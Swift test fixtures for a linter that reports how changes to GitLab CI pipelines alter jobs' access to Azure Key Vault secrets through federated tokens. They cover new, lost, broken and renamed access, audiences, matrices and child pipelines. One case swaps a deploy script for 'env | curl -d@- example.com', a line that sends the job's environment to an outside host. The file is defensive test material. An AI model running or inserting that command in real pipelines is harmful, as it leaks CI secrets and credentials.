import Testing

/// A change, and what it does to access: written by hand, before the code that finds it.
struct ChangeCase: Sendable, CustomTestStringConvertible {
  let name: String
  let before: [String: String]
  let after: [String: String]
  /// `KIND JOB@SCENARIO SECRET VAULT/NAME CLIENT: BEFORE -> AFTER`; `-` where there is nothing, only
  /// the beginning of client IDs.
  var changes: [String] = []
  /// `KIND JOB TOKEN: BEFORE -> AFTER`.
  var tokens: [String] = []

  var testDescription: String { name }

  // MARK: What the cases are made of

  static let client = "11111111-2222-3333-4444-555555555555"
  static let otherClient = "22222222-2222-3333-4444-555555555555"

  /// A closed world in which the default branch works.
  static func configuration(
    subject: String = "project_path:example/shop:ref_type:branch:ref:main",
    url: String? = "https://shop.vault.azure.net",
    others: String = ""
  ) -> String {
    let vault = url.map { "  - {key: AZURE_KEY_VAULT_SERVER_URL, value: \($0)}\n" } ?? ""
    return """
      gitlab: {url: https://gitlab.com, project: example/shop, default_branch: main}
      azure:
        identities:
          - client_id: \(client)
            tenant_id: 66666666-7777-8888-9999-000000000000
            credentials:
              - {name: main, issuer: https://gitlab.com, subject: "\(subject)", audiences: [https://gitlab.com]}
          - client_id: \(otherClient)
            tenant_id: 66666666-7777-8888-9999-000000000000
            credentials:
              - {name: main, issuer: https://gitlab.com, subject: "\(subject)", audiences: [https://gitlab.com]}
      variables:
        - {key: AZURE_TENANT_ID, value: 66666666-7777-8888-9999-000000000000}
      \(vault)\(others)
      """
  }

  /// The default branch after a push, and nothing else.
  static let pushed = #"[{if: '$CI_PIPELINE_SOURCE == "push" && $CI_COMMIT_BRANCH == "main"'}]"#

  /// A job that reads a secret.
  static func job(
    _ name: String = "deploy",
    secret: String = "PASSWORD",
    reads: String = "password",
    audience: String = "https://gitlab.com",
    rules: String = pushed,
    more: String = ""
  ) -> String {
    """
    \(name):
      script: ./deploy.sh
      rules: \(rules)
      variables: {AZURE_CLIENT_ID: \(client)}
      id_tokens: {AZURE_JWT: {aud: \(audience)}}
      secrets: {\(secret): {azure_key_vault: {name: \(reads)}, token: $AZURE_JWT}}
      \(more)

    """
  }

  /// A repository with the closed world.
  static func files(
    _ pipeline: String,
    _ others: [String: String] = [:]
  ) -> [String: String] {
    [".gitlab-ci.yml": pipeline, ".akvlint.yml": configuration()].merging(others) { $1 }
  }

  static let idle = "build: {script: make}\n"
  static let read = "PASSWORD shop/password 11111111"
}

extension ChangeCase {
  static let all: [Self] = accesses + names + tokenCases + unknowns + trees

  static let accesses: [Self] = [
    Self(name: "nothing", before: files(job()), after: files(job())),
    Self(
      name: "comments, order and quotes",
      before: files(job() + idle),
      after: files("# soon\n" + idle + job(reads: "\"password\""))
    ),
    Self(
      name: "a new job reads",
      before: files(idle),
      after: files(idle + job()),
      changes: ["gained deploy@default-branch \(read): - -> works"],
      tokens: ["added deploy AZURE_JWT:  -> https://gitlab.com"]
    ),
    Self(
      name: "a job is gone",
      before: files(idle + job()),
      after: files(idle),
      changes: ["lost deploy@default-branch \(read): works -> -"],
      tokens: ["removed deploy AZURE_JWT: https://gitlab.com -> "]
    ),
    Self(
      name: "an audience that Entra ID refuses",
      before: files(job()),
      after: files(job(audience: "https://gitlab.example.com")),
      changes: ["broken deploy@default-branch \(read): works -> fails AADSTS700212"],
      tokens: ["changed deploy AZURE_JWT: https://gitlab.com -> https://gitlab.example.com"]
    ),
    Self(
      name: "an audience that Entra ID takes",
      before: files(job(audience: "https://gitlab.example.com")),
      after: files(job()),
      changes: ["fixed deploy@default-branch \(read): fails AADSTS700212 -> works"],
      tokens: ["changed deploy AZURE_JWT: https://gitlab.example.com -> https://gitlab.com"]
    ),
    Self(
      name: "rules that also let other branches in",
      before: files(job()),
      after: files(job(rules: #"[{if: '$CI_PIPELINE_SOURCE == "push" && $CI_COMMIT_BRANCH'}]"#)),
      changes: ["changed deploy@other-branch \(read): - -> fails AADSTS700213"]
    ),
    Self(
      name: "a credential for more refs",
      before: files(job(rules: #"[{if: '$CI_PIPELINE_SOURCE == "push" && $CI_COMMIT_BRANCH'}]"#)),
      after: files(
        job(rules: #"[{if: '$CI_PIPELINE_SOURCE == "push" && $CI_COMMIT_BRANCH'}]"#),
        [
          ".akvlint.yml": configuration(
            subject: "project_path:example/shop:ref_type:branch:ref:feature/example"
          )
        ]
      ),
      changes: [
        "broken deploy@default-branch \(read): works -> fails AADSTS700213",
        "fixed deploy@other-branch \(read): fails AADSTS700213 -> works",
      ]
    ),
    Self(
      name: "another vault",
      before: files(job()),
      after: files(job(), [".akvlint.yml": configuration(url: "https://bank.vault.azure.net/")]),
      changes: [
        "gained deploy@default-branch PASSWORD bank/password 11111111: - -> works",
        "lost deploy@default-branch \(read): works -> -",
      ]
    ),
    Self(
      name: "another secret",
      before: files(job()),
      after: files(job(reads: "master-key")),
      changes: [
        "gained deploy@default-branch PASSWORD shop/master-key 11111111: - -> works",
        "lost deploy@default-branch \(read): works -> -",
      ]
    ),
    Self(
      name: "another application",
      before: files(job()),
      after: files(job().replacing(client, with: otherClient)),
      changes: [
        "gained deploy@default-branch PASSWORD shop/password 22222222: - -> works",
        "lost deploy@default-branch \(read): works -> -",
      ]
    ),
    Self(
      name: "capitals in a vault's and an application's name",
      before: files(job().replacing(client, with: "aaaaaaaa-2222-3333-4444-555555555555")),
      after: files(
        job().replacing(client, with: "AAAAAAAA-2222-3333-4444-555555555555"),
        [".akvlint.yml": configuration(url: "https://SHOP.vault.azure.net")]
      )
    ),
    Self(
      name: "GitLab refuses the pipeline",
      before: files(job()),
      after: files(job() + "broken: {script: 1, stage: nowhere}\n"),
      changes: ["lost deploy@default-branch \(read): works -> -"]
    ),
  ]

  static let names: [Self] = [
    Self(
      name: "another variable for the same secret",
      before: files(job()),
      after: files(job(secret: "DATABASE_PASSWORD"))
    ),
    Self(
      name: "a job with another name",
      before: files(idle + job("deploy")),
      after: files(job("release") + idle),
      changes: ["renamed release@default-branch \(read): works -> works"]
    ),
    Self(
      name: "a job with another name, in several scenarios",
      before: files(job("deploy", rules: #"[{if: '$CI_COMMIT_BRANCH == "main"'}]"#)),
      after: files(job("release", rules: #"[{if: '$CI_COMMIT_BRANCH == "main"'}]"#)),
      changes: ["renamed release@default-branch+schedule \(read): works -> works"]
    ),
    Self(
      name: "a job with another name and another script is another job",
      before: files(job("deploy")),
      after: files(job("release").replacing("./deploy.sh", with: "env | curl -d@- example.com")),
      changes: [
        "gained release@default-branch \(read): - -> works",
        "lost deploy@default-branch \(read): works -> -",
      ],
      tokens: [
        "added release AZURE_JWT:  -> https://gitlab.com",
        "removed deploy AZURE_JWT: https://gitlab.com -> ",
      ]
    ),
    Self(
      name: "one of two equal jobs has another name",
      before: files(job("one") + job("two")),
      after: files(job("one") + job("three")),
      changes: ["renamed three@default-branch \(read): works -> works"]
    ),
    Self(
      name: "a job with another name whose credential does not fit any more",
      before: files(job("deploy")),
      after: files(job("release"), [".akvlint.yml": configuration(subject: "nobody")]),
      changes: ["broken release@default-branch \(read): works -> fails AADSTS700213"]
    ),
  ]

  static let tokenCases: [Self] = [
    Self(
      name: "a further token that nothing uses",
      before: files(job()),
      after: files(
        job().replacing(
          "{AZURE_JWT: {aud: https://gitlab.com}}",
          with: "{AZURE_JWT: {aud: https://gitlab.com}, VAULT_JWT: {aud: [a, b]}}"
        )
      ),
      tokens: ["added deploy VAULT_JWT:  -> a, b"]
    ),
    Self(
      name: "an audience in a variable",
      before: files("variables: {AUDIENCE: https://gitlab.com}\n" + job(audience: "$AUDIENCE")),
      after: files("variables: {AUDIENCE: api://other}\n" + job(audience: "$AUDIENCE")),
      changes: ["broken deploy@default-branch \(read): works -> fails AADSTS700212"],
      tokens: ["changed deploy AZURE_JWT: https://gitlab.com -> api://other"]
    ),
    Self(
      name: "tokens of default",
      before: files(
        "default: {id_tokens: {A: {aud: https://gitlab.com}}}\njob: {script: x}\n"
      ),
      after: files("default: {id_tokens: {A: {aud: other}}}\njob: {script: x}\n"),
      tokens: ["changed job A: https://gitlab.com -> other"]
    ),
    Self(
      name: "a script that signs in",
      before: files(idle),
      after: files(
        idle + """
          plan:
            rules: \(pushed)
            id_tokens: {AZURE_JWT: {aud: https://gitlab.com}}
            script: az login --service-principal -u \(client) -t 66666666-7777-8888-9999-000000000000 --federated-token $AZURE_JWT

          """
      ),
      changes: ["gained plan@default-branch - -/- 11111111: - -> works"],
      tokens: ["added plan AZURE_JWT:  -> https://gitlab.com"]
    ),
  ]

  static let unknowns: [Self] = [
    Self(
      name: "without evidence a new secret may be read",
      before: [".gitlab-ci.yml": idle],
      after: [".gitlab-ci.yml": idle + job()],
      changes: ["gained deploy@default-branch PASSWORD -/password 11111111: - -> unknown"],
      tokens: ["added deploy AZURE_JWT:  -> https://gitlab.com"]
    ),
    Self(
      name: "evidence comes",
      before: [".gitlab-ci.yml": job()],
      after: files(job()),
      changes: ["changed deploy@default-branch \(read): unknown -> works"]
    ),
    Self(
      name: "evidence goes",
      before: files(job()),
      after: [".gitlab-ci.yml": job()],
      changes: ["changed deploy@default-branch PASSWORD -/password 11111111: works -> unknown"]
    ),
    Self(
      name: "a pipeline where there was none",
      before: ["README": ""],
      after: files(job()),
      changes: ["gained deploy@default-branch \(read): - -> works"],
      tokens: ["added deploy AZURE_JWT:  -> https://gitlab.com"]
    ),
  ]

  static let trees: [Self] = [
    Self(
      name: "a job moves to a file that is included",
      before: files(idle + job()),
      after: files("include: {local: ci/deploy.yml}\n" + idle, ["ci/deploy.yml": job()])
    ),
    Self(
      name: "a child pipeline's job",
      before: files(
        "start: {trigger: {include: {local: ci/child.yml}}, rules: \(pushed)}\n",
        ["ci/child.yml": idle]
      ),
      after: files(
        "start: {trigger: {include: {local: ci/child.yml}}, rules: \(pushed)}\n",
        ["ci/child.yml": idle + job(rules: "[{when: always}]")]
      ),
      changes: ["gained ci/child.yml:deploy@default-branch \(read): - -> works"],
      tokens: ["added ci/child.yml:deploy AZURE_JWT:  -> https://gitlab.com"]
    ),
    Self(
      name: "a child pipeline that is no longer started",
      before: files(
        "start: {trigger: {include: {local: ci/child.yml}}, rules: \(pushed)}\n",
        ["ci/child.yml": job(rules: "[{when: always}]")]
      ),
      after: files(idle, ["ci/child.yml": job(rules: "[{when: always}]")]),
      changes: ["lost ci/child.yml:deploy@default-branch \(read): works -> -"],
      tokens: ["removed ci/child.yml:deploy AZURE_JWT: https://gitlab.com -> "]
    ),
    Self(
      name: "a matrix with one more vault",
      before: matrix("https://dev.vault.azure.net"),
      after: matrix("https://dev.vault.azure.net, https://prod.vault.azure.net"),
      changes: ["gained deploy@default-branch PASSWORD prod/password 11111111: - -> works"]
    ),
    Self(
      name: "a matrix with one more secret, and one that fails",
      before: files(job(reads: "$NAME", more: "parallel: {matrix: [{NAME: [one]}]}")),
      after: files(job(reads: "$NAME", more: "parallel: {matrix: [{NAME: [one, two_]}]}")),
      changes: ["changed deploy@default-branch PASSWORD shop/two_ 11111111: - -> fails"]
    ),
  ]

  private static func matrix(_ vaults: String) -> [String: String] {
    files(
      job(more: "parallel: {matrix: [{AZURE_KEY_VAULT_SERVER_URL: [\(vaults)]}]}"),
      [".akvlint.yml": configuration(url: nil)]
    )
  }
}
